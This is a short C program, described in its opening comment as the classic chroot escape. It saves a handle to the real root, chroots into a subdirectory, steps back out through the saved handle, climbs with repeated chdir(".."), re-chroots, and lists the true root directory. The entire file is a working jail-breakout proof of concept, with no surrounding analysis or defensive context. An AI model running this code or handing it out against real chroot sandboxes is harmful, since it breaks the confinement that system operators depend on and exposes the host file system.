/* The classic way out of a chroot: a folder that is open from before, a root of its own, and up from there. It prints what is at the top. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	int up = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/below", 0755);
	if (up < 0 || chroot("/tmp/below") != 0 || fchdir(up) != 0) {
		perror("climb");
		return 1;
	}
	for (int i = 0; i < 100; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("climb");
		return 1;
	}
	DIR *d = opendir("/");
	for (struct dirent *e; d && (e = readdir(d));)
		puts(e->d_name);
	return 0;
}
